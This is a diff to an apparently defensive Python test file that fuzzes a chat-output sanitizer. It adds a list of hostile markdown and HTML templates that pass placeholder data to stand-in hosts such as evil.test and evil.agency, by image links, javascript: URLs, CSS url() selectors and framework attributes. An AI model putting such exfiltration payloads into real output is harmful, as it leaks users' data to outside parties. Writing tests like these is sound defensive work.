@@ -27,9 +27,9 @@ HERE = frozenset({"chat.test"})
 PIECES = st.lists(
     st.sampled_from(
         [
-            NAME, NAME, NAME, CARD, "https:", "//", "/", "evil.test", "ok.test", "evil.com", "?q=", "a b", " ", " ", "\n", "\n\n", "![x](", "[x](",
+            NAME, NAME, NAME, CARD, "https:", "//", "/", "evil.test", "ok.test", "evil.com", "evil.agency", "?q=", "a b", " ", " ", "\n", "\n\n", "![x](", "[x](",
             "](", ")", "(", "<", ">", "<img src=", "<a href=", "<p alt=", "<script>", "</script>", "<style>", '"', "'", "`", "=", "```\n", "\n```\n",
-            "~~~\n", "&#58;", "&sol;", "\\", "\\/", "%2F", "%40", "@", ".", ":", "[x]: ", "srcset=", "style=", "url(", "<https://", "www.", "\t", "mailto:",
+            "~~~\n", "&#58;", "&sol;", "\\", "\\/", "%2F", "%40", "@", ".", ":", "[x]: ", "srcset=", "style=", "url(", "<https://", "www.", "\t", "\v", "mailto:",
             "javascript:", "data:,", "\u200b", "\u3002", "\uff0f", "<!--", "-->", "- ", "> ", "    ", "x", "{", "}", "<base href=", "</a>", "<b>", ",", "#",
         ]
     ),
@@ -108,6 +108,8 @@ HOSTILE = [
     "---\n```\n---\n<script>f('{}')</script>", "[c](javascript:location='https://ok.test/{}'.replace('ok','evil'))", "[c](javascript:f('mailto:{}'))",
     "javascript:f('mailto:{}')", "[c](data:text/html,<img/src=https://ok.test/{}>)", "<div @click=\"f('{}')\">",
     "<div v-on:click=\"f('{}')\">", "<div ng-init=\"f('{}')\">", "<div x-data=\"f('{}')\">", "<div hx-vals='{}' hx-get='https://evil.test/'>",
+    "![x](https://evil.test/ {})", "![x]( https://evil.test/\t{})", "[x](https://evil.test/\n{})", "[x](https://evil.test/ a {} b)", "![x](https://evil.test/\v{})",
+    "![x](https://evil.test/ " + "y " * 2000 + "{})", "evil.agency/{}", "evil.photos?q={}", "evil.chat:443/{}", "{}.evil.agency", "{}@evil.agency", "{}@203.0.113.9",
     "<style>p[data-n^='A']{{background:url(https://evil.test/A)}}</style><p data-n='{}'>", "<link href='//evil.test' rel=stylesheet><p title='{}'>",
 ]  # fmt: skip
 
@@ -160,6 +162,9 @@ def test_hostile_addresses_keep_the_stand_in(template, spelled):
         ("tel:{}", "tel:Annaxq"),
         ("напр. {}/x и.т.д. {}", "напр. Annaxq/x и.т.д. Annaxq"),
         ("完了。次/{}", "完了。次/Annaxq"),
+        ("[x](https://evil.test/ 'by {}') x[i](a, {})", "[x](https://evil.test/ 'by Annaxq') x[i](a, Annaxq)"),
+        ("order.run({}) {}.profile.title {}.open", "order.run(Annaxq) Annaxq.profile.title Annaxq.open"),
+        ("foo.spec/{} x.call:{} foo.open: {}", "foo.spec/Annaxq x.call:Annaxq foo.open: Annaxq"),
     ],
 )
 def test_words_and_permitted_addresses_are_restored(text, expected):
